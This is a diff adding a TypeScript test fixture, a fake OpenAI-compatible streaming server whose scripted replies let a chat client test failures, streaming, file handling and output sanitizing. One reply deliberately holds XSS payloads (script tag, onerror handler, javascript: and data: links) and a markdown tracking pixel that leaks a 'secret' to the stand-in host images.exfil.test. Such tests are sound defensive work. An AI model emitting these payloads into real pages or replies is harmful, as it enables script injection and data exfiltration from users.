@@ -1,0 +1,155 @@
+import { type IncomingMessage, type Server, type ServerResponse, createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+/**
+ * A loopback OpenAI-compatible upstream speaking streaming Chat Completions, with replies scripted by
+ * markers in the last user message. Deterministic: the same prompt gives the same reply, except that
+ * a repeated prompt says which attempt it is (so Regenerate visibly changes the answer).
+ */
+
+interface ChatMessage {
+  role: string;
+  content: string | { type: string; text?: string }[];
+}
+
+interface Script {
+  tokens: string[];
+  delayMs: number;
+  /** HTTP status to fail with instead of streaming. */
+  failStatus?: number;
+  /** Stop sending (but keep the socket open) after this many tokens. */
+  hangAfter?: number;
+}
+
+export const FILE_MARKER = 'PARLEY-FILE-MARKER';
+export const IMAGE_HOST = 'images.exfil.test';
+
+/** "w01 w02 … wNN": every word unique, so a test can check each arrived exactly once. */
+export function numberedWords(count: number): string {
+  return Array.from({ length: count }, (_, i) => `w${String(i + 1).padStart(2, '0')}`).join(' ');
+}
+
+export const HOSTILE_REPLY = [
+  'Here is some **bold** text.',
+  '',
+  '<script>alert("script-xss")</script>',
+  '',
+  '<img src="x" onerror="alert(\'img-xss\')">',
+  '',
+  '[click me](javascript:alert(\'link-xss\'))',
+  '',
+  `![tracking pixel](http://${IMAGE_HOST}/pixel.png?leak=secret)`,
+  '',
+  '[data link](data:text/html,<script>alert(1)</script>)',
+  '',
+  'End of hostile reply.',
+].join('\n');
+
+export const CODE_REPLY = [
+  'Here is a function:',
+  '',
+  '```python',
+  'def greet(name):',
+  '    return f"Hello, {name}!"',
+  '```',
+  '',
+  'And a list:',
+  '',
+  '- one',
+  '- two',
+].join('\n');
+
+function textOf(message: ChatMessage | undefined): string {
+  if (!message) return '';
+  if (typeof message.content === 'string') return message.content;
+  return message.content.map((part) => part.text ?? '').join('');
+}
+
+/** Splits a reply into token-like pieces (words with their whitespace). */
+function tokensOf(text: string): string[] {
+  return text.match(/\s*\S+\s?|\s+/g) ?? [text];
+}
+
+export class FakeOpenAi {
+  private server: Server | null = null;
+  private readonly attempts = new Map<string, number>();
+
+  script(messages: ChatMessage[]): Script {
+    const lastUser = [...messages].reverse().find((m) => m.role === 'user');
+    const prompt = textOf(lastUser);
+    const question = prompt.split('\n\n<file')[0] ?? prompt;
+    const attempt = (this.attempts.get(question) ?? 0) + 1;
+    this.attempts.set(question, attempt);
+    if (prompt.includes('[fail-once]') && attempt === 1) return { tokens: [], delayMs: 0, failStatus: 500 };
+    if (prompt.includes('[fail]')) return { tokens: [], delayMs: 0, failStatus: 500 };
+    if (prompt.includes('[slow]')) return { tokens: tokensOf(numberedWords(60)), delayMs: 120 };
+    if (prompt.includes('[long]')) return { tokens: tokensOf(Array.from({ length: 40 }, (_, i) => `Paragraph ${i + 1} of a long answer.`).join('\n\n')), delayMs: 5 };
+    if (prompt.includes('[xss]')) return { tokens: tokensOf(HOSTILE_REPLY), delayMs: 5 };
+    if (prompt.includes('[code]')) return { tokens: tokensOf(CODE_REPLY), delayMs: 10 };
+    if (prompt.includes('[file]')) {
+      const all = messages.map(textOf).join('\n');
+      const reply = all.includes(FILE_MARKER) ? `The file says ${FILE_MARKER}.` : 'No file content reached me.';
+      return { tokens: tokensOf(reply), delayMs: 10 };
+    }
+    const suffix = attempt > 1 ? ` (attempt ${attempt})` : '';
+    return { tokens: tokensOf(`Hello! You said: ${question.slice(0, 200)}${suffix}`), delayMs: 15 };
+  }
+
+  async start(port: number): Promise<number> {
+    this.server = createServer((req, res) => void this.handle(req, res));
+    await new Promise<void>((resolve, reject) => {
+      this.server?.once('error', reject);
+      this.server?.listen(port, '127.0.0.1', () => resolve());
+    });
+    return (this.server.address() as AddressInfo).port;
+  }
+
+  async stop(): Promise<void> {
+    const server = this.server;
+    if (!server) return;
+    server.closeAllConnections();
+    await new Promise<void>((resolve) => server.close(() => resolve()));
+  }
+
+  private async handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
+    if (req.method === 'GET' && req.url?.endsWith('/models')) {
+      res.writeHead(200, { 'Content-Type': 'application/json' });
+      res.end(JSON.stringify({ object: 'list', data: [{ id: 'fake-model', object: 'model' }] }));
+      return;
+    }
+    if (req.method !== 'POST' || !req.url?.endsWith('/chat/completions')) {
+      res.writeHead(404, { 'Content-Type': 'application/json' });
+      res.end(JSON.stringify({ error: { message: 'not found', type: 'invalid_request_error' } }));
+      return;
+    }
+    const chunks: Buffer[] = [];
+    for await (const chunk of req) chunks.push(chunk as Buffer);
+    const body = JSON.parse(Buffer.concat(chunks).toString('utf8')) as { model?: string; messages?: ChatMessage[]; stream?: boolean };
+    const script = this.script(body.messages ?? []);
+    if (script.failStatus) {
+      res.writeHead(script.failStatus, { 'Content-Type': 'application/json' });
+      res.end(JSON.stringify({ error: { message: 'The upstream model is overloaded (scripted failure).', type: 'server_error' } }));
+      return;
+    }
+    const id = `chatcmpl-${Date.now()}`;
+    const model = body.model ?? 'fake-model';
+    const created = Math.floor(Date.now() / 1000);
+    const chunk = (delta: Record<string, unknown>, finish: string | null, extra: Record<string, unknown> = {}): string =>
+      `data: ${JSON.stringify({ id, object: 'chat.completion.chunk', created, model, choices: [{ index: 0, delta, finish_reason: finish }], ...extra })}\n\n`;
+    res.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-cache', Connection: 'keep-alive' });
+    let isClosed = false;
+    res.on('close', () => (isClosed = true));
+    res.write(chunk({ role: 'assistant', content: '' }, null));
+    for (const [index, token] of script.tokens.entries()) {
+      if (isClosed) return;
+      if (script.hangAfter !== undefined && index >= script.hangAfter) return;
+      if (script.delayMs > 0) await new Promise((resolve) => setTimeout(resolve, script.delayMs));
+      if (isClosed) return;
+      res.write(chunk({ content: token }, null));
+    }
+    const completion = script.tokens.length;
+    res.write(chunk({}, 'stop', { usage: { prompt_tokens: 10, completion_tokens: completion, total_tokens: 10 + completion } }));
+    res.write('data: [DONE]\n\n');
+    res.end();
+  }
+}
